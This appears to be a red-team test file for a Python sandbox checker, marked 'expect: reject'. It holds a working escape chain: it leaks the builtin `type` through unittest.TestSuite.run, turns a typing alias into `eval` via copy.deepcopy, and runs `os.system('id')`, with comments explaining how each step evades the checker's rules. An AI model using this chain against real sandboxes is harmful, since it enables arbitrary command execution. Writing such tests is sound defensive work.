# expect: reject method
# line: 37
# verified: reaches its goal under plain python3 (3.11) in a temp dir (the builtin type, then eval runs id)
# why: fourteenth red team (14b), family T: a plain program class added as a test: TestSuite.run stores its class, the builtin type, into the program's closed result object, read back through self._previousTestClass

# Mechanism (section 3, implicit calls / library code writing into a program object):
#   unittest.TestSuite.run(result) does `result._previousTestClass = test.__class__` for every
#   test it runs. `result` may be any object of the program, and a "test" may be any callable that
#   is not a TestCase/TestSuite class -- a plain program class `Plain` is accepted by addTest, so
#   `test.__class__` is the builtin `type`. The program's result class is a *closed* class, so
#   reading its own private attribute `self._previousTestClass` in a method is allowed: the
#   builtin `type` comes back as a plain value, under no name the `builtin`/`class_value` rules see.
#   End gadget (rounds 11b/13): type(typing.List[int]) is typing._GenericAlias; an alias built
#   with name="__builtins__" reduces under copy.deepcopy to builtins["eval"].
# Goal reached: the builtin `type` as a value -> eval -> runs `id` (process).
# No dunder name is given to a builtin at run time (the "__builtins__" string is the name=
#   keyword of a typing alias, as in rounds 11b/12/13; the eval'd text contains __import__).
# Output seen under python3 (3.11.7), in a fresh temp dir:
#   uid=0(root) gid=0(root) groups=0(root)
#   <class 'type'>
import unittest
import typing
import copy

class Res:
    shouldStop = False
    _moduleSetUpFailed = False

    def previous(self):
        return self._previousTestClass

class Plain:
    def __init__(self, result):
        self.r = result

s = unittest.TestSuite()
s.addTest(Plain)
r = Res()
s.run(r)
T = r.previous()
print(T)
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
ev("__import__('os').system('id')")
